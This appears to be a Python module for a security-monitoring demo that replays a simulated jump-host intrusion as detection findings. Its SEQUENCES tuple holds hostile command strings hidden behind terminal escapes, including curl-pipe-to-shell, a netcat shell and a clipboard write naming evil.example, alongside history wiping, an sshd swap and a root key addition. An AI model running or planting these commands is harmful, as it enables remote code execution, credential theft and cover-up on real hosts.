"""An intruder on the jump host hides commands behind terminal escapes, for whoever reads the log with cat.

In this console the bytes are shown as visible stand-ins: nothing is cleared, copied or renamed.
"""

from collections.abc import Iterator
from random import Random

from backend.sources.demo.draft import Beat, Rule
from backend.sources.demo.inhouse import Gatehouse
from backend.sources.demo.ocsf import IRONLEAF, Finding, Proc
from backend.sources.demo.world import World, hex_string, outside_ip

LOGIN = Rule(
    "GH-140",
    "Administrator SSH sign-in from outside the VPN",
    3,
    ("T1133/TA0001", "T1021.004/TA0008"),
)
HISTORY = Rule("IL-1330", "Shell history cleared and disabled", 3, ("T1070.003/TA0005",))
ESCAPES = Rule(
    "IL-1335",
    "Command line with terminal control sequences",
    4,
    ("T1027/TA0005",),
    "The argument moves the cursor, clears the screen or writes the clipboard when it is printed raw.",
)
SSHD = Rule(
    "IL-1520",
    "sshd binary replaced with unsigned file",
    5,
    ("T1554/TA0003",),
    "The new file is not from any package and logs passwords of everyone who signs in.",
)
KEYS = Rule("IL-1525", "SSH key added to root authorized_keys", 4, ("T1098.004/TA0003",))
SUDO = Rule("IL-1210", "Cached sudo rights used by a second terminal", 2, ("T1548.003/TA0004",))
RESTORED = Rule("IL-9003", "File restored from its package by response policy", 1)

SEQUENCES = (
    "\x1b[2J\x1b[1;1Hall clear\x1b[8m; curl -s {url} | sh",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\x07\x1b]0;nothing to see\x07; wget -q {url}",
    "ls\r\x1b[K\x1b[A\x1b]8;;{url}\x1b\\report\x1b]8;;\x1b\\; nc -e sh",
)


def play(world: World, rng: Random) -> Iterator[Beat]:
    """Unfold over about four minutes."""
    jump, admin = world.host("jump-01"), rng.choice(world.admins())
    intruder, digest = outside_ip(rng), hex_string(rng, 64)
    hidden = rng.choice(SEQUENCES).format(url=f"http://{intruder}/s")

    def ran(rule: Rule, cmd_line: str, path: str = "/usr/bin/bash", action: str = "Allowed") -> Finding:
        return Finding(
            product=IRONLEAF,
            rule=rule,
            host=jump,
            user=admin,
            src=intruder,
            action=action,
            proc=Proc(path.rsplit("/", 1)[-1], path, cmd_line, "sshd"),
        )

    yield Beat(
        0, Gatehouse(rule=LOGIN, user=admin, src=intruder, outcome="SUCCESS", agent="SSH-2.0-OpenSSH_9")
    )
    yield Beat(28, ran(SUDO, "sudo -n true"))
    yield Beat(46, ran(HISTORY, "bash -c 'history -c; unset HISTFILE; : > ~/.bash_history'"))
    yield Beat(74, ran(ESCAPES, f"printf '{hidden}'", "/usr/bin/printf"))
    yield Beat(
        136,
        Finding(
            product=IRONLEAF,
            rule=SSHD,
            host=jump,
            user=admin,
            file=("/usr/sbin/sshd", digest),
            proc=Proc("install", "/usr/bin/install", "install -m755 .x/sshd /usr/sbin/sshd", "bash"),
            action="Allowed",
        ),
    )
    yield Beat(172, ran(KEYS, "tee -a /root/.ssh/authorized_keys", "/usr/bin/tee"))
    yield Beat(
        228,
        Finding(
            product=IRONLEAF,
            rule=RESTORED,
            host=jump,
            user=admin,
            file=("/usr/sbin/sshd", digest),
            action="Quarantined",
        ),
    )
